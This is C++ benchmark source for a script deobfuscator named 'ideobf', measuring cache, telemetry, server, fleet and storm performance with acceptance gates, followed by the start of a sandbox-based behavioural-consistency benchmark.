    request.source = obf;
    request.language = "javascript";
    const Response response = engine.handle(request);
    if (response.ok && response.result == clean) ++js.round_tripped;
  }
  const double seconds = now_seconds() - t0;
  js.ms_per_script = seconds * 1000.0 / pairs.size();

  Row row;
  row.config = "js_corpus";
  row.threads = 1;
  row.warm = true;
  row.seconds = seconds;
  row.ms_per_script = js.ms_per_script;
  row.scripts_per_second = pairs.size() / std::max(seconds, 1e-9);
  row.failed = static_cast<std::int64_t>(js.samples - js.round_tripped);
  rows.push_back(row);
  return js;
}

std::string rows_to_json(const std::vector<Row>& rows, std::size_t corpus,
                         double parse_reduction, double speedup_8t_vs_1t,
                         unsigned speedup_threads, const TelemetrySummary& ts,
                         const ServerSummary& ss, const FleetSummary& fs,
                         const StormSummary& sts, const JsCorpusSummary& js) {
  JsonWriter w;
  w.begin_object();
  w.field("bench", "pipeline");
  w.field("corpus_scripts", static_cast<std::int64_t>(corpus));
  w.field("hardware_concurrency",
          static_cast<std::int64_t>(std::thread::hardware_concurrency()));
  w.field("parse_reduction_vs_uncached", parse_reduction);
  // Warm-batch speedup of the widest measured thread count over 1 thread.
  // On a 1-core runner this hovers near 1.0 by physics — read it together
  // with hardware_concurrency.
  w.field("speedup_8t_vs_1t", speedup_8t_vs_1t);
  w.field("speedup_measured_at_threads",
          static_cast<std::int64_t>(speedup_threads));
  w.field("parse_cache_hit_rate", ts.parse_cache_hit_rate);
  w.field("recovery_memo_hit_rate", ts.recovery_memo_hit_rate);
  w.begin_array("recovery_memo_hit_rate_per_slot");
  for (const double rate : ts.per_slot_hit_rates) w.value(rate);
  w.end_array();
  // Piece-evaluation ladder: how memo misses were resolved (static fold /
  // compiled bytecode / tree-walk fallback) and what each stage cost.
  w.field("piece_exec_count", static_cast<std::int64_t>(ts.piece_execs));
  w.field("piece_memo_hit_count",
          static_cast<std::int64_t>(ts.piece_memo_hits));
  w.field("fold_count", static_cast<std::int64_t>(ts.folds));
  w.field("fold_rate", ts.fold_rate);
  w.field("bytecode_exec_count", static_cast<std::int64_t>(ts.bytecode_execs));
  w.field("treewalk_fallback_count",
          static_cast<std::int64_t>(ts.treewalk_fallbacks));
  w.key("piece_eval");
  w.begin_object();
  w.key("fold");
  w.begin_object();
  w.field("count", static_cast<std::int64_t>(ts.folds));
  w.field("self_seconds", ts.fold_seconds);
  w.end_object();
  w.key("vm");
  w.begin_object();
  w.field("count", static_cast<std::int64_t>(ts.bytecode_execs));
  w.field("self_seconds", ts.vm_seconds);
  w.end_object();
  w.key("fallback");
  w.begin_object();
  w.field("count", static_cast<std::int64_t>(ts.treewalk_fallbacks));
  w.field("self_seconds", ts.fallback_seconds);
  w.end_object();
  w.end_object();
  w.field("telemetry_overhead_ratio", ts.overhead_ratio);
  // Warm `ideobf serve` round trip vs a fresh CLI process per script: the
  // resident daemon's amortization of spawn + warm-up costs.
  w.field("server_ms_per_script", ss.server_ms_per_script);
  w.field("server_traced_ms_per_script", ss.traced_ms_per_script);
  w.field("serve_trace_overhead", ss.trace_overhead_ratio);
  w.field("oneshot_cli_ms_per_script", ss.oneshot_cli_ms_per_script);
  w.field("server_amortization_ratio", ss.amortization_ratio);
  // Supervised fleet: zipf-skewed replay through the shared response cache,
  // plus the crash-drill accounting (worker-abort faults on a marked
  // script; every request must still end in a terminal reply).
  w.key("fleet");
  w.begin_object();
  w.field("available", fs.available);
  w.field("workers", static_cast<std::int64_t>(2));
  w.field("replay_requests", static_cast<std::int64_t>(fs.replay_requests));
  w.field("unique_scripts", static_cast<std::int64_t>(fs.unique_scripts));
  w.field("cache_hit_rate", fs.cache_hit_rate);
  w.field("hit_ms_per_script", fs.hit_ms_per_script);
  w.field("miss_ms_per_script", fs.miss_ms_per_script);
  w.key("crash_drill");
  w.begin_object();
  w.field("requests", static_cast<std::int64_t>(fs.crash_requests));
  w.field("terminal_replies", static_cast<std::int64_t>(fs.crash_terminal));
  w.field("ok", static_cast<std::int64_t>(fs.crash_ok));
  w.field("worker_crash", static_cast<std::int64_t>(fs.crash_worker_crash));
  w.field("quarantined", static_cast<std::int64_t>(fs.crash_quarantined));
  w.end_object();
  w.end_object();
  // Connection storm through the epoll I/O core: churn rate, concurrent
  // round-trip percentiles, and the slow-consumer reap drill.
  w.key("fleet_storm");
  w.begin_object();
  w.field("available", sts.available);
  w.field("churn_connections",
          static_cast<std::int64_t>(sts.churn_connections));
  w.field("churn_connections_per_second",
          sts.churn_connections_per_second);
  w.field("churn_ms_per_connection", sts.churn_ms_per_connection);
  w.field("concurrent_clients",
          static_cast<std::int64_t>(sts.concurrent_clients));
  w.field("concurrent_served",
          static_cast<std::int64_t>(sts.concurrent_served));
  w.field("concurrent_failed",
          static_cast<std::int64_t>(sts.concurrent_failed));
  w.field("concurrent_p50_ms", sts.concurrent_p50_ms);
  w.field("concurrent_p99_ms", sts.concurrent_p99_ms);
  w.key("slow_consumer_drill");
  w.begin_object();
  w.field("slow_clients", static_cast<std::int64_t>(sts.drill_slow));
  w.field("innocent_clients",
          static_cast<std::int64_t>(sts.drill_innocent));
  w.field("innocent_served",
          static_cast<std::int64_t>(sts.drill_innocent_served));
  w.field("reaped", static_cast<std::int64_t>(sts.drill_reaped));
  w.end_object();
  w.end_object();
  // JavaScript front-end over the checked-in data/js mini-corpus: every
  // sample must reproduce its golden exactly.
  w.key("js_corpus");
  w.begin_object();
  w.field("available", js.available);
  w.field("samples", static_cast<std::int64_t>(js.samples));
  w.field("round_tripped", static_cast<std::int64_t>(js.round_tripped));
  w.field("ms_per_script", js.ms_per_script);
  w.end_object();
  w.field("telemetry_spans_opened",
          static_cast<std::int64_t>(ts.spans_opened));
  w.field("telemetry_spans_closed",
          static_cast<std::int64_t>(ts.spans_closed));
  // Per-phase breakdown over the telemetry-enabled runs (cold prime +
  // warm batch — both, so lex/parse cache-miss costs show up). `fraction`
  // is the phase's self time over the accounted total, so the values sum
  // to ~1.
  w.key("phase_breakdown");
  w.begin_object();
  for (std::size_t i = 0; i < tel::kPhaseCount; ++i) {
    const tel::Phase phase = static_cast<tel::Phase>(i);
    const tel::PhaseStat& stat = ts.profile.stat(phase);
    w.key(tel::phase_name(phase));
    w.begin_object();
    w.field("count", static_cast<std::int64_t>(stat.count));
    w.field("self_seconds", ts.profile.self_seconds(phase));
    w.field("total_seconds", ts.profile.total_seconds(phase));
    w.field("fraction", ts.accounted_seconds > 0.0
                            ? ts.profile.self_seconds(phase) /
                                  ts.accounted_seconds
                            : 0.0);
    w.end_object();
  }
  w.end_object();
  w.begin_array("rows");
  for (const Row& r : rows) {
    w.begin_object();
    w.field("config", r.config);
    w.field("threads", static_cast<std::int64_t>(r.threads));
    w.field("warm", r.warm);
    w.field("seconds", r.seconds);
    w.field("ms_per_script", r.ms_per_script);
    w.field("scripts_per_second", r.scripts_per_second);
    w.field("speedup_vs_1t", r.speedup_vs_1t);
    w.field("parses", static_cast<std::int64_t>(r.parses));
    w.field("parses_per_script", r.parses_per_script);
    w.field("cache_hits", static_cast<std::int64_t>(r.cache_hits));
    w.field("cache_misses", static_cast<std::int64_t>(r.cache_misses));
    w.field("failed", r.failed);
    w.field("failures", r.failures);
    w.field("degraded", r.degraded);
    w.field("max_degradation_rung", r.max_rung);
    w.end_object();
  }
  w.end_array();
  w.end_object();
  return w.str();
}

int run(std::size_t corpus_size, unsigned max_threads, bool write_json,
        bool smoke) {
  // Synthetic corpus: same seeded generator as bench_fig6_time, scaled to
  // hundreds of scripts so batch rows measure steady-state pool behavior
  // rather than startup.
  CorpusGenerator gen(100);
  std::vector<std::string> scripts;
  scripts.reserve(corpus_size);
  for (const Sample& s : gen.generate_batch(corpus_size)) {
    scripts.push_back(s.obfuscated);
  }

  std::vector<Row> rows;

  // Size the cache to the corpus working set (~16 intermediate texts per
  // script): an LRU sized below it measures eviction churn, not the
  // pipeline. A triage server sizes its cache the same way.
  const std::size_t cache_entries =
      std::max<std::size_t>(1024, corpus_size * 24);
  const auto make_cached = [&] {
    Options opts;
    opts.shared_parse_cache = std::make_shared<ps::ParseCache>(cache_entries);
    return InvokeDeobfuscator(opts);
  };

  Options uncached_opts;
  uncached_opts.parse_cache = false;
  uncached_opts.recovery.memo = false;  // seed behavior: no cache, no memo
  rows.push_back(run_serial(InvokeDeobfuscator(uncached_opts), scripts,
                            "cache_off", false));

  const InvokeDeobfuscator cached = make_cached();
  rows.push_back(run_serial(cached, scripts, "cache_cold", false));
  rows.push_back(run_serial(cached, scripts, "cache_warm", true));

  std::vector<unsigned> thread_counts;
  for (unsigned t = 1; t < max_threads; t *= 2) thread_counts.push_back(t);
  thread_counts.push_back(max_threads);

  double warm_1t_seconds = 0.0;
  for (unsigned threads : thread_counts) {
    // A fresh shared cache per thread count keeps the cold rows comparable.
    const InvokeDeobfuscator batch_deobf = make_cached();
    rows.push_back(run_batch(batch_deobf, scripts, threads, false));
    rows.back().config = "batch_cold";
    rows.push_back(run_batch(batch_deobf, scripts, threads, true));
    rows.back().config = "batch_warm";
    if (threads == 1) warm_1t_seconds = rows.back().seconds;
    if (warm_1t_seconds > 0.0) {
      rows.back().speedup_vs_1t = warm_1t_seconds / rows.back().seconds;
    }
  }
  double speedup_widest = 0.0;
  unsigned speedup_threads = thread_counts.back();
  for (const Row& r : rows) {
    if (r.config == "batch_warm" && r.threads == speedup_threads) {
      speedup_widest = r.speedup_vs_1t;
    }
  }

  // Governed batch: the execution governor armed with a generous per-item
  // deadline over the same (benign) corpus. Zero failures / zero degraded
  // items expected — this row tracks the governor's overhead and proves the
  // ladder stays on rung 0 for well-behaved input.
  {
    const InvokeDeobfuscator governed_deobf = make_cached();
    Options::Limits governor;
    governor.deadline_seconds = 10.0;
    rows.push_back(run_batch(governed_deobf, scripts, 4, false, governor));
    rows.back().config = "batch_governed";
    std::printf(
        "governed batch: failed=%lld failures=%lld degraded=%lld max_rung=%lld\n",
        static_cast<long long>(rows.back().failed),
        static_cast<long long>(rows.back().failures),
        static_cast<long long>(rows.back().degraded),
        static_cast<long long>(rows.back().max_rung));
  }

  // Telemetry section: one enabled batch (phase breakdown + registry
  // rates) bracketed by disabled warm-serial samples (the overhead ratio).
  const TelemetrySummary ts =
      run_telemetry_section(make_cached(), scripts, rows, 4);

  // Server section: warm `ideobf serve` round trips vs one-shot CLI spawns.
  const ServerSummary ss = run_server_section(scripts, rows);

  // Fleet section: supervised 2-worker fleet, zipf-skewed replay through
  // the shared response cache, and a worker-abort crash drill.
  const FleetSummary fs = run_fleet_section(scripts, rows);

  // Storm section: connection churn, ~1k concurrent clients (p50/p99), and
  // the slow-consumer reap drill against the epoll I/O core.
  const StormSummary sts = run_storm_section(smoke, rows);

  // JS front-end section: the data/js mini-corpus round-tripped against
  // its checked-in goldens through the public Engine API.
  const JsCorpusSummary js = run_js_corpus_section(rows);

  const double reduction =
      rows[0].parses > 0 && rows[1].parses > 0
          ? static_cast<double>(rows[0].parses) / rows[1].parses
          : 0.0;

  std::printf("\nPipeline throughput over %zu corpus scripts (%u hw threads)\n",
              scripts.size(), std::thread::hardware_concurrency());
  print_rows(rows);
  std::printf("\nparse reduction (cache_off / cache_cold): %.2fx\n", reduction);
  std::printf("warm batch speedup %ut vs 1t: %.2fx\n", speedup_threads,
              speedup_widest);

  std::printf(
      "\ntelemetry: spans %llu/%llu opened/closed, parse-cache hit rate "
      "%.3f (%llu/%llu), recovery-memo hit rate %.3f (%llu/%llu), "
      "disabled-overhead ratio %.3f\n",
      static_cast<unsigned long long>(ts.spans_opened),
      static_cast<unsigned long long>(ts.spans_closed),
      ts.parse_cache_hit_rate,
      static_cast<unsigned long long>(ts.cache_hits),
      static_cast<unsigned long long>(ts.cache_lookups),
      ts.recovery_memo_hit_rate,
      static_cast<unsigned long long>(ts.memo_hits),
      static_cast<unsigned long long>(ts.memo_lookups), ts.overhead_ratio);
  std::printf("per-slot memo hit rate:");
  for (std::size_t s = 0; s < ts.per_slot_hit_rates.size(); ++s) {
    std::printf(" slot%zu=%.3f", s, ts.per_slot_hit_rates[s]);
  }
  std::printf("\n");
  std::printf(
      "piece-eval ladder (cold run): %llu execs = %llu memo hits + %llu "
      "folds + %llu bytecode + %llu tree-walk (fold rate %.3f of misses)\n",
      static_cast<unsigned long long>(ts.piece_execs),
      static_cast<unsigned long long>(ts.piece_memo_hits),
      static_cast<unsigned long long>(ts.folds),
      static_cast<unsigned long long>(ts.bytecode_execs),
      static_cast<unsigned long long>(ts.treewalk_fallbacks), ts.fold_rate);
  std::printf(
      "piece-eval split: fold %.3f ms, vm %.3f ms, fallback %.3f ms\n",
      ts.fold_seconds * 1000.0, ts.vm_seconds * 1000.0,
      ts.fallback_seconds * 1000.0);
  std::printf("phase breakdown (self-time over enabled batch, wall %.3fs):\n",
              ts.batch_wall_seconds);
  for (std::size_t i = 0; i < tel::kPhaseCount; ++i) {
    const tel::Phase phase = static_cast<tel::Phase>(i);
    const tel::PhaseStat& stat = ts.profile.stat(phase);
    if (stat.count == 0) continue;
    std::printf("  %-17s %8llu spans  self %9.3f ms  total %9.3f ms\n",
                std::string(tel::phase_name(phase)).c_str(),
                static_cast<unsigned long long>(stat.count),
                ts.profile.self_seconds(phase) * 1000.0,
                ts.profile.total_seconds(phase) * 1000.0);
  }
  std::printf("  accounted %.3f ms vs pipeline total %.3f ms\n",
              ts.accounted_seconds * 1000.0, ts.pipeline_seconds * 1000.0);

  if (ss.cli_available) {
    std::printf(
        "\nserver amortization: warm serve %.3f ms/script vs one-shot CLI "
        "%.3f ms/script (sample %zu) = %.2fx\n",
        ss.server_ms_per_script, ss.oneshot_cli_ms_per_script, ss.cli_sample,
        ss.amortization_ratio);
  } else {
    std::printf("\nserver amortization: warm serve %.3f ms/script "
                "(one-shot CLI binary not found; ratio skipped)\n",
                ss.server_ms_per_script);
  }
  std::printf(
      "serve trace overhead: traced %.3f ms/script vs untraced %.3f "
      "ms/script wall, %.3fx process CPU\n",
      ss.traced_ms_per_script, ss.server_ms_per_script,
      ss.trace_overhead_ratio);

  if (fs.available) {
    std::printf(
        "fleet replay: %zu requests over %zu unique scripts, shared-cache "
        "hit rate %.3f, hit %.3f ms vs miss %.3f ms per script\n",
        fs.replay_requests, fs.unique_scripts, fs.cache_hit_rate,
        fs.hit_ms_per_script, fs.miss_ms_per_script);
    std::printf(
        "fleet crash drill: %zu requests -> %zu terminal (%zu ok, %zu "
        "worker-crash, %zu quarantined)\n",
        fs.crash_requests, fs.crash_terminal, fs.crash_ok,
        fs.crash_worker_crash, fs.crash_quarantined);
  } else {
    std::printf("fleet section: skipped (CLI binary not built)\n");
  }

  print_storm(sts);

  if (js.available) {
    std::printf(
        "js corpus: %zu/%zu samples round-tripped to their goldens, "
        "%.3f ms/script warm\n",
        js.round_tripped, js.samples, js.ms_per_script);
  } else {
    std::printf("js corpus: skipped (data/js has no sample pairs)\n");
  }

  if (write_json) {
    const std::string path = std::string(IDEOBF_SOURCE_DIR) + "/BENCH_pipeline.json";
    std::ofstream out(path, std::ios::binary);
    out << rows_to_json(rows, scripts.size(), reduction, speedup_widest,
                        speedup_threads, ts, ss, fs, sts, js)
        << "\n";
    std::printf("wrote %s\n", path.c_str());
  }

  int rc = 0;

  // Acceptance gate 0 (count-based, runs sanitized too): the JS front-end
  // must exist and reproduce every data/js golden byte-for-byte.
  if (!js.available) {
    std::fprintf(stderr, "FAIL: data/js mini-corpus missing\n");
    rc = 1;
  } else if (js.round_tripped != js.samples) {
    std::fprintf(stderr, "FAIL: js corpus round-trip %zu/%zu\n",
                 js.round_tripped, js.samples);
    rc = 1;
  }

  // Acceptance gate 1: the parse-once pipeline must at least halve the
  // parses per deobfuscation relative to the uncached seed behavior.
  if (reduction < 2.0) {
    std::fprintf(stderr, "FAIL: parse reduction %.2fx < 2x\n", reduction);
    rc = 1;
  }

  // Acceptance gate 2: failure-counter consistency. The corpus is benign
  // and the governed deadline generous, so every batch row must report
  // failed == failures == degraded == 0 (failures() counting benign
  // per-piece hiccups was a real reporting bug: rows once said
  // "failures: 8" next to "failed: 0").
  for (const Row& r : rows) {
    if (r.config.rfind("batch", 0) != 0) continue;
    if (r.failed != 0 || r.failures != 0 || r.degraded != 0) {
      std::fprintf(stderr,
                   "FAIL: %s@%ut inconsistent/benign-failure counters: "
                   "failed=%lld failures=%lld degraded=%lld\n",
                   r.config.c_str(), r.threads,
                   static_cast<long long>(r.failed),
                   static_cast<long long>(r.failures),
                   static_cast<long long>(r.degraded));
      rc = 1;
    }
  }

  // Acceptance gate 3 (smoke only): pool overhead. A warm 4-thread batch
  // must not run more than 10% slower than 1 thread, even on a single-core
  // runner — the persistent pool's whole point is that extra slots cost
  // nearly nothing when they cannot help. Best-of-3 to shed noise.
  if (smoke && IDEOBF_SANITIZED) {
    std::printf("thread-scaling gate: skipped under sanitizers\n");
  } else if (smoke) {
    const InvokeDeobfuscator scale_deobf = make_cached();
    (void)run_batch(scale_deobf, scripts, 4, false);  // prime the cache
    const double s1 = best_warm_batch_seconds(scale_deobf, scripts, 1, 3);
    const double s4 = best_warm_batch_seconds(scale_deobf, scripts, 4, 3);
    std::printf("thread-scaling gate: warm 1t %.3fs vs 4t %.3fs (%.2fx)\n",
                s1, s4, s1 / s4);
    if (s4 > s1 * 1.10) {
      std::fprintf(stderr,
                   "FAIL: warm 4-thread batch %.3fs is more than 10%% slower "
                   "than 1-thread %.3fs\n",
                   s4, s1);
      rc = 1;
    }
  }

  // Acceptance gate 4: span balance. Every PhaseSpan opened during the
  // telemetry-enabled batch must have closed — an imbalance means a span
  // leaked across an exception edge or a worker died mid-item. Pure
  // counting, so it runs under sanitizers too.
  if (ts.spans_opened == 0 || ts.spans_opened != ts.spans_closed) {
    std::fprintf(stderr, "FAIL: span imbalance: opened=%llu closed=%llu\n",
                 static_cast<unsigned long long>(ts.spans_opened),
                 static_cast<unsigned long long>(ts.spans_closed));
    rc = 1;
  }
  // Gate 4b: the phase breakdown must contain lex and parse spans. They
  // only open on parse-cache misses, so they can only come from the cold
  // window — before that window was merged in, the JSON reported parsing
  // as permanently free (the reporting bug this gate pins down).
  if (ts.profile.stat(tel::Phase::Lex).count == 0 ||
      ts.profile.stat(tel::Phase::Parse).count == 0) {
    std::fprintf(stderr,
                 "FAIL: phase breakdown has no lex/parse spans (lex=%llu "
                 "parse=%llu) — cold-window profile lost\n",
                 static_cast<unsigned long long>(
                     ts.profile.stat(tel::Phase::Lex).count),
                 static_cast<unsigned long long>(
                     ts.profile.stat(tel::Phase::Parse).count));
    rc = 1;
  }

  // Acceptance gate 5: registry reconciliation. Parse-cache counters must
  // satisfy lookups == hits + misses + bypasses exactly (the miss counter
  // fires before the insert-race path precisely so this identity holds),
  // and the per-phase self times must partition the Pipeline span total —
  // within 5% for clock granularity. Count/identity-based, so it also runs
  // under sanitizers.
  if (ts.cache_lookups !=
      ts.cache_hits + ts.cache_misses + ts.cache_bypasses) {
    std::fprintf(stderr,
                 "FAIL: parse-cache counters do not reconcile: lookups=%llu "
                 "hits=%llu misses=%llu bypasses=%llu\n",
                 static_cast<unsigned long long>(ts.cache_lookups),
                 static_cast<unsigned long long>(ts.cache_hits),
                 static_cast<unsigned long long>(ts.cache_misses),
                 static_cast<unsigned long long>(ts.cache_bypasses));
    rc = 1;
  }
  if (ts.pipeline_seconds > 0.0) {
    const double drift =
        std::abs(ts.accounted_seconds - ts.pipeline_seconds) /
        ts.pipeline_seconds;
    if (drift > 0.05) {
      std::fprintf(stderr,
                   "FAIL: phase self-times do not partition the pipeline "
                   "total: accounted %.6fs vs pipeline %.6fs (%.1f%% drift)\n",
                   ts.accounted_seconds, ts.pipeline_seconds, drift * 100.0);
      rc = 1;
    }
  } else {
    std::fprintf(stderr, "FAIL: telemetry batch recorded no pipeline spans\n");
    rc = 1;
  }

  // Acceptance gate 6 (smoke, non-sanitized): disabled telemetry must cost
  // ~nothing. Warm serial throughput after an enable/disable cycle must be
  // within 10% of the never-enabled baseline (one relaxed atomic load per
  // span site is below measurement noise; anything above it is a residue
  // bug — e.g. a recorder left attached or the flag check hoisted wrong).
  if (smoke && IDEOBF_SANITIZED) {
    std::printf("telemetry-overhead gate: skipped under sanitizers\n");
  } else if (smoke) {
    std::printf("telemetry-overhead gate: off-after/off-before = %.3f\n",
                ts.overhead_ratio);
    if (ts.overhead_ratio > 1.10) {
      std::fprintf(stderr,
                   "FAIL: disabled telemetry costs %.1f%% after an "
                   "enable/disable cycle (ratio %.3f > 1.10)\n",
                   (ts.overhead_ratio - 1.0) * 100.0, ts.overhead_ratio);
      rc = 1;
    }
  }

  // Acceptance gate 7 (non-sanitized, CLI present): the resident daemon
  // must amortize at least 2x over spawning the CLI per script — otherwise
  // `ideobf serve` has no reason to exist. Wall-clock-based, so skipped
  // under sanitizers.
  if (IDEOBF_SANITIZED) {
    std::printf("server-amortization gate: skipped under sanitizers\n");
  } else if (!ss.cli_available) {
    std::printf("server-amortization gate: skipped (CLI binary not built)\n");
  } else {
    std::printf("server-amortization gate: %.2fx (>= 2.0 required)\n",
                ss.amortization_ratio);
    if (ss.amortization_ratio < 2.0) {
      std::fprintf(stderr,
                   "FAIL: warm server only %.2fx faster per script than "
                   "one-shot CLI (< 2x)\n",
                   ss.amortization_ratio);
      rc = 1;
    }
  }
  // Acceptance gate 8: piece-evaluation ladder accounting. Every piece
  // execution of the cold telemetry window must be either a memo hit or
  // resolved by exactly one ladder stage — a leak here means a stage
  // double-counts or an execution path bypasses the ladder. The corpus
  // always contains pure pieces (string concatenations of literals), so the
  // fold stage must have fired. Count/identity-based, so it runs under
  // sanitizers too.
  if (ts.piece_execs == 0 ||
      ts.piece_execs != ts.piece_memo_hits + ts.folds + ts.bytecode_execs +
                            ts.treewalk_fallbacks) {
    std::fprintf(stderr,
                 "FAIL: piece-eval ladder does not account for every "
                 "execution: execs=%llu hits=%llu folds=%llu bytecode=%llu "
                 "tree-walk=%llu\n",
                 static_cast<unsigned long long>(ts.piece_execs),
                 static_cast<unsigned long long>(ts.piece_memo_hits),
                 static_cast<unsigned long long>(ts.folds),
                 static_cast<unsigned long long>(ts.bytecode_execs),
                 static_cast<unsigned long long>(ts.treewalk_fallbacks));
    rc = 1;
  }
  if (ts.folds == 0) {
    std::fprintf(stderr,
                 "FAIL: fold stage never fired over a corpus with pure "
                 "constant pieces\n");
    rc = 1;
  }

  // Acceptance gate 9: the engine-global memo must convert the corpus's
  // repeated building-block pieces into hits — at least 70% of lookups over
  // the (warm) telemetry batch. The seed's per-slot memos measured ~0.36
  // here; falling back toward that means the memo silently stopped being
  // shared. Count-based, so it runs under sanitizers too.
  std::printf("global-memo gate: recovery_memo_hit_rate %.3f (>= 0.70 "
              "required)\n",
              ts.recovery_memo_hit_rate);
  if (ts.recovery_memo_hit_rate < 0.70) {
    std::fprintf(stderr,
                 "FAIL: global recovery-memo hit rate %.3f < 0.70\n",
                 ts.recovery_memo_hit_rate);
    rc = 1;
  }

  // Acceptance gate 11 (fleet, count-based): the crash drill must end every
  // request in a terminal reply — a hang or a dropped request is exactly
  // the failure mode crash containment exists to prevent — and the
  // worker-abort faults must actually have fired (worker-crash or
  // quarantined replies observed, next to surviving innocent traffic).
  if (fs.available && fs.crash_requests > 0) {
    if (fs.crash_terminal != fs.crash_requests ||
        fs.crash_ok == 0 ||
        fs.crash_worker_crash + fs.crash_quarantined == 0) {
      std::fprintf(stderr,
                   "FAIL: crash drill not contained: %zu/%zu terminal, "
                   "ok=%zu worker-crash=%zu quarantined=%zu\n",
                   fs.crash_terminal, fs.crash_requests, fs.crash_ok,
                   fs.crash_worker_crash, fs.crash_quarantined);
      rc = 1;
    }
  }

  // Acceptance gate 12 (fleet, count-based): the zipf replay must hit the
  // shared cache on at least half its requests — a campaign-skewed stream
  // that misses more than that means the cache is not actually shared (or
  // not actually content-addressed).
  if (fs.available) {
    std::printf("fleet-cache gate: hit rate %.3f (>= 0.50 required)\n",
                fs.cache_hit_rate);
    if (fs.cache_hit_rate < 0.50) {
      std::fprintf(stderr, "FAIL: fleet shared-cache hit rate %.3f < 0.50\n",
                   fs.cache_hit_rate);
      rc = 1;
    }
  }

  // Acceptance gate 13 (fleet, non-sanitized): a shared-cache hit must be
  // cheaper than the warm single-process pipeline round trip — otherwise
  // the cache adds risk without buying latency. Wall-clock-based.
  if (IDEOBF_SANITIZED) {
    std::printf("fleet-hit-latency gate: skipped under sanitizers\n");
  } else if (fs.available && fs.hit_ms_per_script > 0.0) {
    std::printf(
        "fleet-hit-latency gate: hit %.3f ms vs warm single-process "
        "%.3f ms per script\n",
        fs.hit_ms_per_script, ss.server_ms_per_script);
    if (fs.hit_ms_per_script >= ss.server_ms_per_script) {
      std::fprintf(stderr,
                   "FAIL: shared-cache hit path %.3f ms/script is not "
                   "cheaper than the warm pipeline %.3f ms/script\n",
                   fs.hit_ms_per_script, ss.server_ms_per_script);
      rc = 1;
    }
  }

  // Acceptance gate 16 (non-sanitized): the per-request observability plane
  // must be close to free. A traced serve pass ("server_trace": true on
  // every request — the span breakdown in every reply) may cost at most
  // 10% more process CPU than the untraced pass on the same warm daemon.
  // Timing-based, so skipped under sanitizers.
  if (IDEOBF_SANITIZED) {
    std::printf("serve-trace-overhead gate: skipped under sanitizers\n");
  } else if (ss.trace_overhead_ratio > 0.0) {
    std::printf("serve-trace-overhead gate: traced/untraced = %.3fx CPU\n",
                ss.trace_overhead_ratio);
    if (ss.trace_overhead_ratio > kServeTraceOverheadBudget) {
      std::fprintf(stderr,
                   "FAIL: traced serve pass costs %.3fx the untraced pass's "
                   "process CPU (budget %.2fx)\n",
                   ss.trace_overhead_ratio, kServeTraceOverheadBudget);
      rc = 1;
    }
  }

  // Acceptance gate 10 (non-sanitized): warm per-script latency. The
  // fold/bytecode/global-memo ladder must keep the warm serial pipeline at
  // least 2x faster than the 0.80 ms/script the pre-ladder tree-walk
  // measured on this corpus. Wall-clock-based, so skipped under sanitizers.
  if (IDEOBF_SANITIZED) {
    std::printf("warm-latency gate: skipped under sanitizers\n");
  } else {
    double warm_ms = 0.0;
    for (const Row& r : rows) {
      if (r.config == "cache_warm") warm_ms = r.ms_per_script;
    }
    std::printf("warm-latency gate: cache_warm %.3f ms/script (<= 0.40 "
                "required)\n",
                warm_ms);
    if (warm_ms <= 0.0 || warm_ms > 0.40) {
      std::fprintf(stderr,
                   "FAIL: warm serial pipeline %.3f ms/script > 0.40 "
                   "(2x gate vs the 0.80 pre-ladder seed)\n",
                   warm_ms);
      rc = 1;
    }
  }

  // Acceptance gate 14 (non-sanitized, wide box only): on a machine with
  // at least 8 hardware threads, the warm batch must scale at least 3x
  // from 1 thread to the widest measured count. Narrow runners cannot
  // prove scaling by physics, so they skip rather than vacuously pass.
  if (IDEOBF_SANITIZED) {
    std::printf("multi-core-scaling gate: skipped under sanitizers\n");
  } else if (std::thread::hardware_concurrency() < 8 || speedup_threads < 8) {
    std::printf(
        "multi-core-scaling gate: skipped (hardware_concurrency=%u, "
        "measured at %ut; needs >= 8 of both)\n",
        std::thread::hardware_concurrency(), speedup_threads);
  } else {
    std::printf("multi-core-scaling gate: %.2fx at %ut (>= 3.0 required)\n",
                speedup_widest, speedup_threads);
    if (speedup_widest < 3.0) {
      std::fprintf(stderr,
                   "FAIL: warm batch speedup %.2fx at %u threads < 3x on "
                   "a %u-thread machine\n",
                   speedup_widest, speedup_threads,
                   std::thread::hardware_concurrency());
      rc = 1;
    }
  }

  // Acceptance gate 15: storm gates (count-based — every concurrent storm
  // client answered, innocents served through the drill, slow consumers
  // actually reaped).
  if (storm_gates(sts) != 0) rc = 1;

  return rc;
}

/// `--storm-only`: just the connection-storm section and its count-based
/// gates — the fast ctest registration that keeps the epoll I/O core's
/// storm behavior (and the slow-consumer reaps) from bit-rotting without
/// paying for the full corpus sweep.
int run_storm_only(bool smoke) {
  std::vector<Row> rows;
  const StormSummary sts = run_storm_section(smoke, rows);
  print_rows(rows);
  print_storm(sts);
  return storm_gates(sts);
}

}  // namespace

int main(int argc, char** argv) {
  bool smoke = false;
  bool json = false;
  bool storm_only = false;
  std::size_t scripts = 0;
  unsigned threads = 8;
  for (int i = 1; i < argc; ++i) {
    if (std::strcmp(argv[i], "--smoke") == 0) {
      smoke = true;
    } else if (std::strcmp(argv[i], "--json") == 0) {
      json = true;
    } else if (std::strcmp(argv[i], "--storm-only") == 0) {
      storm_only = true;
    } else if (std::strcmp(argv[i], "--threads") == 0 && i + 1 < argc) {
      threads = static_cast<unsigned>(std::strtoul(argv[++i], nullptr, 10));
    } else if (std::strcmp(argv[i], "--scripts") == 0 && i + 1 < argc) {
      scripts = static_cast<std::size_t>(std::strtoul(argv[++i], nullptr, 10));
    } else {
      std::fprintf(stderr,
                   "usage: bench_pipeline [--smoke] [--json] [--storm-only] "
                   "[--threads N] [--scripts M]\n");
      return 2;
    }
  }
  if (storm_only) return run_storm_only(smoke);
  if (scripts == 0) scripts = smoke ? 64 : 300;
  if (threads == 0) threads = 1;
  return run(scripts, threads, json, smoke);
}
