// Reproduces Table IV: behavioral consistency. Each tool's deobfuscation
// result is executed in the sandbox and its network-event set compared with
// the original sample's. A result counts as *effective* when the tool
// actually changed the script, the result still executes, and the network
// behavior is identical.

#include "bench_common.h"

#include "baselines/baseline.h"
#include "corpus/corpus.h"
#include "sandbox/sandbox.h"

namespace {

using namespace ideobf;

constexpr std::size_t kSamples = 100;

void print_table() {
  CorpusGenerator gen(100);
  const auto samples = gen.generate_batch(kSamples);
  Sandbox sandbox;

  // Original behavior profiles; Table IV only counts samples with network
  // behavior.
  std::vector<const Sample*> with_network;
  std::vector<BehaviorProfile> originals;
  for (const Sample& s : samples) {
    BehaviorProfile p = sandbox.run(s.obfuscated);
    if (p.has_network()) {
      with_network.push_back(&s);
      originals.push_back(std::move(p));
    }
  }

  bench::heading(
